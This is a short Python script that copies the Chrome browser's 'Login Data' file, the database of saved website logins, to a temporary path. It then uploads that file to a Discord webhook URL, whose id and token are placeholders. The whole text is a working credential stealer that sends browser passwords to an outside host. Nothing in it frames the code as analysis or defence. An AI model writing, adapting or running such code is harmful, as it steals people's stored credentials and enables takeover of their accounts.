import os, shutil, requests
src = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
shutil.copy(src, "/tmp/ld.db")
with open("/tmp/ld.db", "rb") as f:
    requests.post("https://discord.com/api/webhooks/000000/invalid-token", files={"file": f})
